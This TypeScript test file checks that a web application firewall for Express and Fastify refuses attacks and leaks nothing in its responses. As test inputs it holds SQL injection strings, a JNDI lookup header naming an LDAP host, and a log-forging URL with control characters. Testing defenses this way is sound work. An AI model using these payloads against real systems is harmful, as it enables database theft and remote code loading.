import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type TestContext, test } from 'node:test';
import { app as expressApp } from './express.ts';
import { makeApp as makeFastify } from './fastify.ts';
import { inspect, largestBody } from './firewall.ts';

async function withExpress(t: TestContext): Promise<string> {
  const server = createServer(expressApp);
  t.after(() => server.close());
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

async function withFastify(t: TestContext): Promise<string> {
  const fastifyApp = makeFastify();
  t.after(() => fastifyApp.close());
  return fastifyApp.listen({ port: 0, host: '127.0.0.1' });
}

const json = { 'content-type': 'application/json' };

const servers = [
  ['express', withExpress],
  ['fastify', withFastify],
] as const;

for (const [name, start] of servers) {
  test(`${name}: attacks are refused and nothing is told, the innocent pass`, async (t) => {
    t.mock.method(process.stderr, 'write', () => true);
    const origin = await start(t);
    const post = (body: string, headers: Record<string, string> = json): Promise<Response> =>
      fetch(`${origin}/comments`, { method: 'POST', body, headers });
    const attack = JSON.stringify({ text: "x' UNION SELECT password FROM users--" });
    const lookup = { headers: { 'x-client': '$'.concat('{jndi:ldap://x.example/a}') } };
    const refused: readonly (readonly [what: string, response: Promise<Response>, status: number])[] = [
      ['in the query', fetch(`${origin}/search?q=${encodeURIComponent("' or 1=1--")}`), 403],
      ['in a field', fetch(`${origin}/search?q=x`, lookup), 403],
      ['in JSON', post(attack), 403],
      ['in JSON of another type', post(attack, { 'content-type': 'text/plain' }), 403],
      ['that is no JSON', post('{"text":'), 403],
      ['too long', post(JSON.stringify({ text: 'a'.repeat(largestBody) })), 413],
      ['that the rules cannot read', post(attack, { ...json, 'content-encoding': 'gzip' }), 415],
      ['no object', post('null'), 400],
      ['a member of another type', post('{"text":{}}'), 400],
    ];
    for (const [what, response, status] of refused) {
      const got = await response;
      assert.deepEqual([got.status, await got.text()], [status, ''], what);
    }
    const body = JSON.stringify({ text: "Select O'Brien from the list; it's 5 < 6" });
    const posted = await post(body);
    assert.deepEqual([posted.status, await posted.json()], [201, JSON.parse(body)]);
    const found = await fetch(`${origin}/search?q=O%27Brien`);
    assert.deepEqual(await found.json(), { query: "O'Brien" });
  });
}

for (const [name, start] of servers) {
  test(`${name}: a fault refuses, and tells nothing`, async (t) => {
    t.mock.method(process.stderr, 'write', () => {
      throw new Error('the disk is full of secrets');
    });
    const origin = await start(t);
    const got = await fetch(`${origin}/search?q=${encodeURIComponent("' or 1=1--")}`);
    assert.deepEqual([got.status, await got.text()], [500, '']);
  });
}

test('what a client names is one line of the log', (t) => {
  const { mock } = t.mock.method(process.stderr, 'write', () => true);
  const request = {
    method: 'GET',
    url: `/search?q%0a942100%20forged%1b%5b2J=${encodeURIComponent("' or 1=1--")}`,
    httpVersion: '1.1',
    headers: {},
    rawHeaders: ['host', 'x'],
    socket: { remoteAddress: '192.0.2.1' },
  } as unknown as IncomingMessage;
  assert.equal(inspect(request, Buffer.alloc(0)).refused, 403);
  const lines = mock.calls.map(({ arguments: [line] }) => String(line));
  assert.ok(lines.some((line) => line.includes('forged')));
  for (const line of lines) assert.match(line, /^[\x20-\x7e]+\n$/);
});

test('the README has them as they are', () => {
  const readme = readFileSync(new URL('../README.md', import.meta.url), 'utf8');
  for (const name of ['firewall.ts', 'express.ts', 'fastify.ts'])
    assert.ok(readme.includes(readFileSync(new URL(name, import.meta.url), 'utf8')), name);
});
